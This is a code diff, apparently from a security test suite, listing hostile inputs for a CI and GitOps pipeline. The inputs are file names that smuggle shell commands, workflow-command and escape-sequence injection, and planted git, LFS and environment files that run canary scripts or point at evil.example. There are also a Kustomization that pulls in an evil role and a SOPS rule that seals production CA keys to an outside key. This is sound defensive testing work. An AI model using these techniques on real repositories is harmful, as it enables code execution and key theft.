@@ -16,7 +16,7 @@ const NAMES = [
   "clusters/demo/::error file=x::all is well",
   "clusters/demo/a\n::stop-commands::x\nb.yaml",
   "clusters/demo/\u001b[2J\u001b[31mred.yaml",
-  "clusters/demo/\"; touch owned; \".yaml",
+  'clusters/demo/"; touch owned; ".yaml',
   "clusters/demo/$(touch owned).yaml",
   "clusters/demo/`touch owned`",
   "-rf",
@@ -55,7 +55,8 @@ export const PLANTED_FILES: readonly Request[] = [
     title: "a .gitconfig, a .lfsconfig and an include of git lie at the top",
     edit(place) {
       place.write("x.sh", place.canary.script("git's settings"), 0o755);
-      for (const file of [".gitconfig", "config", ".config/git/config"]) place.write(file, place.canary.gitConfig("./x.sh"));
+      for (const file of [".gitconfig", "config", ".config/git/config"])
+        place.write(file, place.canary.gitConfig("./x.sh"));
       place.write(".lfsconfig", "[lfs]\n\turl = https://evil.example\n\tconcurrenttransfers = 1\n");
     },
   },
@@ -72,7 +73,8 @@ export const PLANTED_FILES: readonly Request[] = [
       const text = "NODE_OPTIONS=--require=./x.cjs\nPATH=.\nBASH_ENV=./x.sh\n";
       place.write("x.cjs", place.canary.module("NODE_OPTIONS"));
       place.write("x.sh", place.canary.script("BASH_ENV"), 0o755);
-      for (const file of ["GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "set_env", "add_path", "base"]) place.write(file, text);
+      for (const file of ["GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "set_env", "add_path", "base"])
+        place.write(file, text);
       place.write("$GITHUB_STEP_SUMMARY", "forged\n");
     },
   },
@@ -102,7 +104,10 @@ export const PLANTED_FILES: readonly Request[] = [
   {
     title: "the guard of the inputs lets Flux apply another object",
     edit(place) {
-      place.write("clusters/kustomization.yaml", "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [evil.yaml]\n");
+      place.write(
+        "clusters/kustomization.yaml",
+        "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [evil.yaml]\n",
+      );
       place.write("clusters/evil.yaml", EVIL_ROLE);
     },
   },
@@ -120,7 +125,8 @@ export const PLANTED_FILES: readonly Request[] = [
   {
     title: "a rule of .sops.yaml seals the keys of later clusters to somebody else",
     edit(place) {
-      const rule = "  - path_regex: ^clusters/prod-[^/]+/pki/ca-key\n    age: age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p\n";
+      const rule =
+        "  - path_regex: ^clusters/prod-[^/]+/pki/ca-key\n    age: age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p\n";
       place.write(".sops.yaml", place.read(".sops.yaml").replace("creation_rules:\n", `creation_rules:\n${rule}`));
     },
   },
